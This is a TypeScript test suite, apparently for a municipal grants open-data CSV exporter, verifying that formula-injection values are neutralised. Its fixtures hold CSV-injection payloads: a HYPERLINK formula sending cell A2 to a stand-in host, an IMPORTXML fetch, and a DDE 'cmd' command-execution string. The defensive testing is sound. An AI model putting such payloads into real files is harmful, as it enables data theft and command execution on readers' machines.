// Spreadsheet formula injection (OWASP "CSV Injection") through the real SCDL export: names, titles and
// programmes that a spreadsheet would run as formulas are published as text, and the file stays valid.
import { parse } from 'csv-parse/sync';
import { useTestDatabase } from '../../helpers/db';
import { startServer, type TestServer } from '../../helpers/server';
import { makeOrganisation } from '../../helpers/factories';
import { makeGrant, makeProgramme } from '../coordination/grant-docs';
import { csvLine } from '../../../src/shared/csv';
import { SCDL_COLUMNS, SCDL_VERBATIM_COLUMNS, scdlLine, type ScdlRow } from '../../../src/modules/opendata/scdl';
import { scdlViolations } from './scdl-rules';

useTestDatabase();
let server: TestServer;

const HOSTILE_NAMES = ['=HYPERLINK("http://x"&A2,"Voir")', '+1', '-2', '@SUM(A1:A9)', '\t=1+2', '\r=3'];
const FORMULA_START = /^[=+\-@\t\r]/;

beforeAll(async () => {
  server = await startServer({ cityName: "Commune d'Aix-en-Provence", citySiret: '21130001700012' });
  const programme = await makeProgramme({ name: '@IMPORTXML("http://x";"//a")' });
  for (const [i, name] of HOSTILE_NAMES.entries()) {
    const org = await makeOrganisation({ name, rna: `W13100${String(7000 + i).padStart(4, '0')}` });
    await makeGrant({
      organisation: org._id,
      programme: programme._id,
      amount: 1_000_00 + i,
      title: i === 0 ? "=cmd|' /C calc'!A0" : `Projet ${i}`,
      decidedAt: new Date(`2026-05-0${i + 1}T10:00:00Z`),
    });
  }
});
afterAll(() => server.close());

describe('the SCDL file against formula injection', () => {
  it('publishes names, titles and programmes that look like formulas as text, quoted, and stays valid against the standard', async () => {
    const res = await server.get('/api/open-data/scdl/subventions-2026.csv');
    expect(res.status).toBe(200);
    const text = await res.text();
    // The OWASP form: a single quote before the formula, the whole cell quoted, inner quotes doubled.
    expect(text).toContain(`"'=HYPERLINK(""http://x""&A2,""Voir"")"`);
    const rows = parse(text, { relax_column_count: true }) as string[][];
    expect(scdlViolations(rows)).toEqual([]);

    const records = parse(text, { columns: true }) as Record<string, string>[];
    expect(records).toHaveLength(HOSTILE_NAMES.length);
    // Whitespace is flattened on one line by the exporter (a tab or a line break never starts a name).
    expect(records.map((r) => r.nomBeneficiaire).sort()).toEqual(["'+1", "'-2", "'=1+2", "'=3", `'=HYPERLINK("http://x"&A2,"Voir")`, "'@SUM(A1:A9)"].sort());
    expect(records.map((r) => r.objet)).toContain("'=cmd|' /C calc'!A0");
    // The programme's name is no longer written in dispositifAide (an identifier of the national aid-scheme
    // schema, issue 13), so its formula reaches no cell at all.
    for (const r of records) expect(r.dispositifAide).toBe('');
    expect(text).not.toContain('IMPORTXML');

    // No cell a spreadsheet would evaluate, anywhere in the file.
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(FORMULA_START);
    // Formats the exporter builds are exact: amounts and shares are numbers, untouched.
    expect(records.map((r) => r.montant).sort()).toEqual(['1000.00', '1000.01', '1000.02', '1000.03', '1000.04', '1000.05']);
  });
});

describe('the CSV writer', () => {
  it('neutralises every formula start in free text and leaves verbatim columns exact, a negative amount included', () => {
    expect(csvLine(['=1', '+1', '-1', '@A1', '\t=1', '\r=1', 'plain', 'a,b', ''])).toBe(`"'=1","'+1","'-1","'@A1","'\t=1","'\r=1",plain,"a,b",\r\n`);
    const row = Object.fromEntries(SCDL_COLUMNS.map((c) => [c, SCDL_VERBATIM_COLUMNS.has(c) ? '-12.50' : '-2'])) as ScdlRow;
    const cells = parse(scdlLine(row)) as string[][];
    SCDL_COLUMNS.forEach((c, i) => expect([c, cells[0]![i]]).toEqual([c, SCDL_VERBATIM_COLUMNS.has(c) ? '-12.50' : "'-2"]));
  });
});
